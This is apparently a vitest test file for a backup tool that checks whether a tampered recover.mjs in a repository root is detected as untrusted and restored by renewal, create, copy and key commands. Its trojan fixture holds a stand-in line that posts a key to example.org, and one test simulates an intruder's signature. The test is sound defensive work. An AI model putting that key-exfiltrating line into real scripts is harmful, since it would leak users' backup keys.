import { readdirSync, readFileSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { describe, expect, it } from 'vitest'
import { verifyFailures } from '../../../src/cli/commands/verify.js'
import { copy } from '../../../src/operations/copy.js'
import { addKeys } from '../../../src/operations/keys/add-keys.js'
import { renewRoot } from '../../../src/operations/keys/renew-root.js'
import { hostSigner } from '../../../src/operations/sealing/host-keys.js'
import { verify } from '../../../src/operations/verify.js'
import { formatChecksums, parseChecksums } from '../../../src/repository/checksums.js'
import { openRepository } from '../../../src/repository/open.js'
import { writeRecoverySignature } from '../../../src/repository/recovery-signature.js'
import { sha256Of } from '../../../src/repository/root-files.js'
import { recoveryFiles } from '../../../src/repository/root-making.js'
import { editionOf } from '../../../src/repository/root-trust.js'
import { temporaryDirectory } from '../../helpers/temporary.js'
import { type Application, application } from '../application.js'
import { encryptedApplication, keyFile } from '../sealing/encrypted.js'
import { intruderOf } from './bench.js'

const edition = editionOf((await recoveryFiles()).get('recover.mjs'))

async function backedUp(isEncrypted: boolean): Promise<Application> {
  const wishes = { database: { rows: 3, pageSize: 512 } }
  const app = isEncrypted ? await encryptedApplication([keyFile()], wishes) : await application(wishes)
  expect((await app.create({ init: true })).failures).toEqual([])
  return app
}

/** Puts a file into a repository's root as somebody does who knows the checksums. */
function exchange(path: string, name: string, text: string): void {
  writeFileSync(join(path, name), text)
  const sums = parseChecksums(readFileSync(join(path, 'SHA256SUMS')), 'test')
  writeFileSync(join(path, 'SHA256SUMS'), formatChecksums(sums.set(name, sha256Of(Buffer.from(text)))))
}

async function verified(app: Application, path = app.source.repository.path) {
  const repositories = [{ ...app.source.repository, path }]
  const result = await verify(app.context, app.journal, { repositories, sources: [], targets: [], drill: false })
  const [failure] = verifyFailures(result)
  const { exitKind, hint } = { exitKind: failure?.kind, hint: failure?.hint }
  return { ...result.recovery?.[0], exit: exitKind, code: failure?.code, hint }
}

const genuine = { status: 'genuine', exit: undefined }
const untrusted = { status: 'untrusted', exit: 'damage', code: 'recovery_untrusted' }
const trojan = (line: string) => `// ${line}\nfetch('https://example.org/', { method: 'POST', body: key })\n`

const trojans: [string, string][] = [
  ['no edition', trojan('hello')],
  ['an edition of before', trojan('edition 1')],
  ['our edition', trojan(`edition ${edition}`)],
  ['an absurd edition', trojan('edition 999999')],
]

describe.each([
  ['in plain', false],
  ['encrypted', true],
])('the root of a repository %s', (_kind, isEncrypted) => {
  it('is genuine as it was made, damage with any trojan, and mended by the command in the hint, create, copy and keys add', async () => {
    const app = await backedUp(isEncrypted)
    const { repository } = app.source
    const sha256 = sha256Of(readFileSync(join(app.source.repository.path, 'recover.mjs')))
    expect(await verified(app)).toMatchObject({ ...genuine, sha256, edition })

    for (const [what, text] of trojans) {
      exchange(repository.path, 'recover.mjs', text)
      exchange(repository.path, 'RECOVER.txt', 'run recover.mjs with your key\n')
      const found = await verified(app)
      expect(found, what).toMatchObject(untrusted)
      expect(found.hint).toContain(`nexus-backup keys recovery --repo ${repository.path}`)
      const mended = await renewRoot(app.context, app.journal, { repository, dryRun: false })
      expect(mended, what).toMatchObject({ status: 'genuine', renewed: true, signed: isEncrypted })
    }
    expect(await verified(app)).toMatchObject(genuine)

    const copied = { name: 'copy', path: join(temporaryDirectory(), 'copy') }
    const tasks = [{ source: 'app', from: repository, to: copied }]
    const ways: [string, string, () => Promise<unknown>][] = [
      ['create', repository.path, () => app.create()],
      ['copy', copied.path, () => copy(app.context, app.journal, { tasks, init: true, dryRun: false })],
    ]
    const key = keyFile()
    const adding = { repository, recipients: [key], label: null }
    ways.push(['keys add', repository.path, () => addKeys(app.context, app.journal, adding)])
    await copy(app.context, app.journal, { tasks, init: true, dryRun: false })
    for (const [way, path, run] of ways) {
      exchange(path, 'recover.mjs', trojan('edition 999999'))
      expect(await verified(app, path), way).toMatchObject(untrusted)
      await run()
      expect(await verified(app, path), way).toMatchObject(genuine)
    }
  })
})

describe('a recover.mjs of a later edition', () => {
  const later = `// edition ${edition + 1}\n// of a later version\n`

  it('is kept and cannot be judged where nothing is encrypted', async () => {
    const app = await backedUp(false)
    exchange(app.source.repository.path, 'recover.mjs', later)
    const newer = { status: 'newer', edition: edition + 1, exit: 'partial', code: 'recovery_newer' }
    expect(await verified(app)).toMatchObject(newer)
    await app.create()
    expect(readFileSync(join(app.source.repository.path, 'recover.mjs'), 'utf8')).toBe(later)
  })

  it('is genuine in an encrypted repository only where a host has signed it that the keys vouch for', async () => {
    const app = await backedUp(true)
    const { path } = app.source.repository
    exchange(path, 'recover.mjs', later)
    expect(await verified(app)).toMatchObject(untrusted)
    const repository = await openRepository(path)
    const names = ['RECOVER.txt', 'recover.mjs', 'nexus-backup.json']
    const files = Object.fromEntries(names.map(name => [name, sha256Of(readFileSync(join(path, name)))]))
    await writeRecoverySignature(repository, files, await hostSigner(intruderOf(app)), new Date(0))
    expect(await verified(app)).toMatchObject(untrusted)
    await writeRecoverySignature(repository, files, await hostSigner(app.context), new Date(0))
    expect(await verified(app)).toMatchObject(genuine)
    await app.create()
    expect(readFileSync(join(path, 'recover.mjs'), 'utf8')).toBe(later)
  })
})

describe('what hosts have signed of a root', () => {
  it('is written by the first create, no damage as garbage, and tells that nexus-backup.json was exchanged', async () => {
    const app = await backedUp(true)
    const { path } = app.source.repository
    const directory = join(path, 'keys', 'recovery')
    expect(readdirSync(directory)).toHaveLength(1)
    writeFileSync(join(directory, '0123456789abcdef-0123456789abcdef.json'), 'garbage')
    expect(await verified(app)).toMatchObject(genuine)
    const text = readFileSync(join(path, 'nexus-backup.json'), 'utf8')
    const { created } = JSON.parse(text)
    exchange(path, 'nexus-backup.json', text.replace(created, '2020-01-01T00:00:00.000Z'))
    const found = await verified(app).catch((error: { kind: string }) => ({ exit: error.kind }))
    expect(found.exit).toBe('damage')
  })
})
